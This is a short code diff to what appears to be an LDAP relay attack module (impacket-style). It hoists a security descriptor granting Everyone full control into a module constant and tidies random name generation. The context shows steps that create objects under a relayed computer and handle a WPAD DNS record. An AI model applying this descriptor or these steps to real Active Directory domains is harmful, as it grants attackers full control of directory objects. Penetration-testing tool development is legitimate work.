@@ -62,6 +62,9 @@ alreadyAddedComputer = False
 delegatePerformed = []
 triedMsExchStorageGroup = False
 
+# Security descriptor granting full control to Everyone, set on the objects we create
+ACL_ALLOW_EVERYONE_EVERYTHING = b'\x01\x00\x04\x9c\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x14\x00\x00\x00\x02\x000\x00\x02\x00\x00\x00\x00\x00\x14\x00\xff\x01\x0f\x00\x01\x01\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\n\x14\x00\x00\x00\x00\x10\x01\x01\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00'
+
 #gMSA structure
 class MSDS_MANAGEDPASSWORD_BLOB(Structure):
     structure = (
@@ -225,9 +228,8 @@ class LDAPAttack(ProtocolAttack):
             LOG.error("Could not find relayed computer in target DC's domain. Is this a cross-domain relay?")
             return False
 
-        ACL_ALLOW_EVERYONE_EVERYTHING = b'\x01\x00\x04\x9c\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x14\x00\x00\x00\x02\x000\x00\x02\x00\x00\x00\x00\x00\x14\x00\xff\x01\x0f\x00\x01\x01\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\n\x14\x00\x00\x00\x00\x10\x01\x01\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00'
         relayed_dn = result[0]
-        mESG_name = ''.join(random.choice(string.ascii_uppercase) for _ in range(8))
+        mESG_name = ''.join(random.choices(string.ascii_uppercase, k=8))
         mESG_dn = ('CN=%s,%s' % (mESG_name, relayed_dn))
 
         LOG.info('Attempting to add new `msExchStorageGroup` object `%s` under `%s`' % (mESG_name, relayed_dn))
@@ -920,8 +922,6 @@ class LDAPAttack(ProtocolAttack):
 
         LOG.info('Domain does not have a `%s` record!' % name)
 
-        ACL_ALLOW_EVERYONE_EVERYTHING = b'\x01\x00\x04\x9c\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x14\x00\x00\x00\x02\x000\x00\x02\x00\x00\x00\x00\x00\x14\x00\xff\x01\x0f\x00\x01\x01\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\n\x14\x00\x00\x00\x00\x10\x01\x01\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00'
-
         a_record_name = name
         is_name_wpad = (a_record_name.lower() == 'wpad')
 